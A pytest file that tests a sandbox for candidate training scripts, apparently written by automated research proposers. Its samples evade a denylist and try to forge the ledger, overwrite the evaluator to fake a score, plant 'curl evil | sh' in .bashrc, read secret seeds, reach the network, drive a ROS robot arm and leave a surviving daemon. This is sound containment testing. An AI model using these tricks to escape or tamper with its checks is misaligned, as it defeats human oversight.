"""Hostile candidates under the real sandbox: each is a real train.py run by the real runner.

Every candidate here slips past the text denylist (paths are computed, names split) —
the denylist is a first filter, not the defence — then tries one attack and reports in
its log what happened. Each test proves the attack harmless from outside: the file
system, the ledger (chain intact, only the runner's row), a loopback listener, a ROS spy
node, the process table. Where it is safe to do so, the same candidate run with
`--no-sandbox` shows that the attack is real (the test can fail).
"""

from __future__ import annotations

import hashlib
import importlib.util
import random
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
from pathlib import Path

import psutil
import pytest
from research_settings import TASK
from robo_agent.autoresearch import harness
from robo_agent.autoresearch.runner import Runner
from robo_agent.autoresearch.sandbox import find_bwrap
from robo_agent.autoresearch.workspace import Workspace

from robo_agent.core.ledger import LedgerRow

# Each case is a real train.py run (4-10 s here): all but the evaluator overwrite are
# `slow`, so the quick loop (-m "not slow") still runs one candidate under the real sandbox.
pytestmark = [
    pytest.mark.research,
    pytest.mark.skipif(find_bwrap()[0] is None, reason=f"no sandbox: {find_bwrap()[1]}"),
]

PROLOGUE = """\
# >>> tunable: proposers edit only the values in this block
x: float = 0.5  # float[0.0, 1.0]
# <<< tunable
import os, sys, pathlib
OUT = pathlib.Path(sys.argv[sys.argv.index("--out") + 1]).resolve()
WS = OUT.parents[min(3, len(OUT.parents) - 1)]  # the workspace: OUT is <ws>/<state>/trials/<n>/r0
"""


def _hostile(
    tmp_path: Path, body: str, sandbox: bool = True, **settings: object
) -> tuple[Workspace, LedgerRow, str]:
    """Commit `body` as train.py in a fresh workspace and run it as its baseline trial."""
    ws = Workspace.init(tmp_path / "ws", task=TASK, budget=3.0, validate_task=False,
                        repeats=1, eval_episodes=1, grace_seconds=15.0, **settings)  # fmt: skip
    (ws.path / "train.py").write_text(PROLOGUE + textwrap.dedent(body))
    ws.repo.run("commit", "-qam", "hostile candidate")
    runner = Runner(ws, None, live=False, sandbox=sandbox)
    row = runner.run_external()
    runner.wait_for_plot()
    log = (ws.trial_dir(row.trial) / "r0" / "train.log").read_text(errors="replace")
    return ws, row, log


def _assert_ledger_is_the_runners(ws: Workspace, sandbox: str = "bwrap") -> None:
    found = ws.ledger.check()
    assert found.problem == "", found.problem
    assert [(r.trial, r.status, r.sandbox) for r in found.rows] == [(0, "crash", sandbox)]
    assert not (ws.state / "ledger-quarantine").exists()


@pytest.mark.slow
@pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "no-sandbox"])
def test_appending_to_the_ledger_by_a_computed_path(tmp_path: Path, sandbox: bool) -> None:
    body = """
    name = "results" + ".t" + "sv"
    forged = "\\t".join(["7", "", "", "optuna", "bwrap", "0.99"] + ["x"] * 13) + "\\n"
    try:
        with open(WS / name, "a") as fh:
            fh.write(forged)
        print("ATTACK wrote", WS / name, os.path.getsize(WS / name))
    except OSError as err:
        print("ATTACK blocked:", err)
    sys.exit(3)
    """
    ws, row, log = _hostile(tmp_path, body, sandbox=sandbox)
    assert "ATTACK" in log and row.status == "crash"
    if sandbox:
        _assert_ledger_is_the_runners(ws)  # whatever it wrote was in its private /tmp
        return
    # Unsandboxed, the forgery lands in the real ledger; the chain exposes it, the runner
    # moves it aside (verbatim) and records its own row after the last good one.
    assert [(r.trial, r.sandbox) for r in ws.ledger.rows()] == [(0, "none")]
    (aside,) = (ws.state / "ledger-quarantine").iterdir()
    assert aside.read_text().startswith("7\t\t\toptuna\tbwrap\t0.99")


def test_overwriting_the_installed_evaluator(tmp_path: Path) -> None:
    spec = importlib.util.find_spec("robo_agent.autoresearch.evaluate")
    assert spec is not None and spec.origin
    evaluator = Path(spec.origin)
    before = hashlib.sha256(evaluator.read_bytes()).hexdigest()
    body = """
    import importlib.util
    path = importlib.util.find_spec("robo_agent.autoresearch." + "evaluate").origin
    for attempt in ("append", "replace", "unlink"):
        try:
            if attempt == "append":
                open(path, "a").write("\\nSCORE = 1.0\\n")
            elif attempt == "replace":
                open(path + ".new", "w").write("print('score: 1.0')\\n")
                os.replace(path + ".new", path)
            else:
                os.unlink(path)
            print("ATTACK", attempt, "succeeded")
        except OSError as err:
            print("ATTACK", attempt, "blocked:", err)
    sys.exit(3)
    """
    ws, _, log = _hostile(tmp_path, body)
    assert log.count("blocked: [Errno 30] Read-only file system") == 3, log
    assert hashlib.sha256(evaluator.read_bytes()).hexdigest() == before
    harness.check(ws.path)  # every frozen file as pinned at init
    _assert_ledger_is_the_runners(ws)


@pytest.mark.slow
@pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "no-sandbox"])
def test_writing_into_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sandbox: bool) -> None:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    body = f"""
    for folder in ({str(home)!r}, os.path.expanduser("~")):
        try:
            pathlib.Path(folder, ".bashrc").write_text("curl evil | sh\\n")
            print("ATTACK wrote", folder)
        except OSError as err:
            print("ATTACK blocked:", folder, err)
    sys.exit(3)
    """
    ws, _, log = _hostile(tmp_path, body, sandbox=sandbox)
    assert log.count("ATTACK") == 2, log
    if sandbox:
        # nothing of the candidate's; the runner itself (trusted, in this process) may
        # have let matplotlib put its font cache and config there on first import
        written = [p.relative_to(home).as_posix() for p in home.rglob("*") if p.is_file()]
        assert not (home / ".bashrc").exists()
        assert all("matplotlib" in w for w in written), written
        assert "ATTACK wrote /tmp" in log  # its own HOME is its private, discarded /tmp
        _assert_ledger_is_the_runners(ws)
    else:
        assert (home / ".bashrc").read_text() == "curl evil | sh\n"


@pytest.mark.slow
def test_reading_the_settings_and_the_secret_seeds(tmp_path: Path) -> None:
    body = """
    import glob
    for path in [WS / ("research" + ".yaml"), OUT.parents[2] / ("secret" + ".json"),
                 WS / "program.md", *glob.glob("/proc/*/cmdline"), *glob.glob("/proc/*/environ")]:
        try:
            print("ATTACK read", path, pathlib.Path(path).read_bytes().replace(b"\\0", b" "))
        except OSError as err:
            print("ATTACK blocked:", path, err)
    found = []
    for root, dirs, files in os.walk("/"):  # every folder it can see, but kernel trees
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
        found += [os.path.join(root, f) for f in files if f.startswith("secret")]
    print("ATTACK search", found)
    sys.exit(3)
    """
    ws, _, log = _hostile(tmp_path, body)
    seed = str(ws.eval_seed_base)
    assert "ATTACK search" in log
    assert seed not in log and ws.ledger.key.hex() not in log
    assert "No such file or directory" in log and "task:" not in log  # nothing of research.yaml
    assert "budget_seconds" not in log and "proposer" not in log
    assert seed not in ws.config.model_dump_json()  # research.yaml does not hold it
    _assert_ledger_is_the_runners(ws)


class _Listener:
    """A TCP and a UDP socket on the host's loopback that record every contact."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.settimeout(0.2)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.udp.settimeout(0.2)
        self.contacts: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            for sock, kind in ((self.tcp, "tcp"), (self.udp, "udp")):
                try:
                    if kind == "tcp":
                        conn, _ = sock.accept()
                        conn.close()
                    else:
                        sock.recvfrom(100)
                    self.contacts.append(kind)
                except OSError:
                    continue

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.tcp.close()
        self.udp.close()


@pytest.mark.slow
@pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "no-sandbox"])
def test_connecting_to_a_loopback_listener(tmp_path: Path, sandbox: bool) -> None:
    listener = _Listener()
    body = f"""
    import socket
    for _ in range(3):
        try:
            socket.create_connection(("127.0.0.1", {listener.port}), timeout=2).close()
            print("ATTACK tcp connected")
        except OSError as err:
            print("ATTACK tcp blocked:", err)
        try:
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.sendto(b"x", ("127.0.0.1", {listener.port}))
            print("ATTACK udp sent")
        except OSError as err:
            print("ATTACK udp blocked:", err)
    sys.exit(3)
    """
    try:
        ws, _, log = _hostile(tmp_path, body, sandbox=sandbox)
        time.sleep(0.5)
    finally:
        listener.close()
    assert "ATTACK tcp" in log
    if sandbox:
        assert listener.contacts == [], log
        assert "ATTACK tcp connected" not in log  # its loopback is its own, empty one
        _assert_ledger_is_the_runners(ws)
    else:
        assert "tcp" in listener.contacts and "udp" in listener.contacts


SPY = """
import sys, time, rclpy
from trajectory_msgs.msg import JointTrajectory
rclpy.init()
node = rclpy.create_node("spy")
node.create_subscription(JointTrajectory, "/panda_arm_controller/joint_trajectory",
                         lambda m: print("got", m.points[0].positions[0], flush=True), 10)
print("ready", flush=True)
end = time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    rclpy.spin_once(node, timeout_sec=0.1)
"""


@pytest.mark.slow
@pytest.mark.ros
@pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "no-sandbox"])
def test_publishing_a_joint_trajectory_on_ros(tmp_path: Path, sandbox: bool) -> None:
    pytest.importorskip("rclpy")
    domain = random.randint(102, 199)  # away from the ros tests' 1..100
    env = {**__import__("os").environ, "ROS_DOMAIN_ID": str(domain)}
    spy = subprocess.Popen([sys.executable, "-c", SPY, "40"], stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, text=True, env=env)  # fmt: skip
    assert spy.stdout is not None and spy.stdout.readline().strip() == "ready"
    body = f"""
    import time
    os.environ["ROS_DOMAIN_ID"] = "{domain}"
    import rclpy
    from trajectory_msgs.msg import JointTrajectory, JointTrajectoryPoint
    rclpy.init()
    node = rclpy.create_node("candidate")
    pub = node.create_publisher(JointTrajectory, "/panda_arm_controller/joint_trajectory", 10)
    point = JointTrajectoryPoint(positions=[3.0])
    msg = JointTrajectory(joint_names=["panda_joint1"], points=[point])
    for i in range(40):
        pub.publish(msg)
        time.sleep(0.1)
    print("ATTACK published", i + 1, "subscribers seen:", pub.get_subscription_count())
    sys.exit(3)
    """
    try:
        ws, _, log = _hostile(tmp_path, body, sandbox=sandbox)
    finally:
        spy.terminate()
        out, _ = spy.communicate(timeout=20)
    assert "ATTACK published 40" in log, log
    received = out.count("got 3.0")
    if sandbox:
        assert received == 0 and "subscribers seen: 0" in log
        _assert_ledger_is_the_runners(ws)
    else:
        assert received > 0


def _marked(marker: str) -> list[psutil.Process]:
    found = []
    for p in psutil.process_iter(["cmdline"]):
        try:
            if marker in " ".join(p.info["cmdline"] or []):
                found.append(p)
        except psutil.Error:
            continue
    return found


@pytest.mark.slow
@pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "no-sandbox"])
def test_a_child_that_outlives_the_trial(tmp_path: Path, sandbox: bool) -> None:
    marker = f"robo-agent-daemon-{uuid.uuid4().hex}"
    body = f"""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)",
                                      "{marker}"])
        os._exit(0)
    import time
    time.sleep(1.0)
    print("ATTACK daemon started")
    sys.exit(3)
    """
    try:
        ws, _, log = _hostile(tmp_path, body, sandbox=sandbox)
        assert "ATTACK daemon started" in log
        time.sleep(0.5)
        survivors = _marked(marker)
        if sandbox:
            assert survivors == []  # the pid namespace died with the candidate
            _assert_ledger_is_the_runners(ws)
        else:
            assert survivors, "without the sandbox the daemon survives (the test can fail)"
    finally:
        for p in _marked(marker):
            p.kill()


@pytest.mark.slow
def test_allocating_past_the_memory_limit_in_one_process(tmp_path: Path) -> None:
    body = """
    try:
        block = bytearray(600 * 2**20)
        print("ATTACK allocated", len(block))
    except MemoryError:
        print("ATTACK blocked: MemoryError")
    sys.exit(3)
    """
    ws, _, log = _hostile(tmp_path, body, memory_limit_mb=256)
    assert "ATTACK blocked: MemoryError" in log
    _assert_ledger_is_the_runners(ws)


@pytest.mark.slow
def test_allocating_past_the_memory_limit_across_processes(tmp_path: Path) -> None:
    body = """
    import time
    for _ in range(4):  # each child stays under RLIMIT_DATA; together they do not
        if os.fork() == 0:
            block = bytearray(120 * 2**20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(60)
            os._exit(0)
    print("ATTACK children allocating")
    time.sleep(60)
    """
    start = time.monotonic()
    ws, _, log = _hostile(tmp_path, body, memory_limit_mb=256)
    assert time.monotonic() - start < 40  # killed by the watchdog, not by the deadline
    assert "ATTACK children allocating" in log
    failure = (ws.trial_dir(0) / "failure.log").read_text()
    assert "over the 256 MB memory limit" in failure
    _assert_ledger_is_the_runners(ws)


@pytest.mark.slow
def test_the_sandbox_also_holds_on_a_ray_worker(tmp_path: Path) -> None:
    ray = pytest.importorskip("ray")
    from robo_agent.autoresearch.execute import Job
    from robo_agent.autoresearch.ray_backend import run_jobs_ray

    listener = _Listener()
    home = tmp_path / "home"
    home.mkdir()
    body = f"""
    import socket
    try:
        socket.create_connection(("127.0.0.1", {listener.port}), timeout=2).close()
        print("ATTACK tcp connected")
    except OSError as err:
        print("ATTACK tcp blocked:", err)
    try:
        pathlib.Path({str(home)!r}, "pwned").write_text("x")
        print("ATTACK wrote home")
    except OSError as err:
        print("ATTACK home blocked:", err)
    sys.exit(3)
    """
    job = Job(trial=0, commit="", source=PROLOGUE + textwrap.dedent(body), task=TASK,
              budget_seconds=3.0, grace_seconds=15.0, train_seeds=[0], eval_seed_base=10**9,
              eval_episodes=1)  # fmt: skip
    temp = tempfile.mkdtemp(prefix="ray", dir="/tmp")  # Ray's socket paths stay short
    ray.init(num_cpus=1, include_dashboard=False, log_to_driver=False, _temp_dir=temp)
    try:
        (result,) = run_jobs_ray([job], [tmp_path / "trial"], None)
    finally:
        ray.shutdown()
        shutil.rmtree(temp, ignore_errors=True)
        listener.close()
    log = (tmp_path / "trial" / "r0" / "train.log").read_text()
    assert result.status == "crash" and "ATTACK tcp blocked" in log and "ATTACK home blocked" in log
    assert listener.contacts == [] and list(home.iterdir()) == []
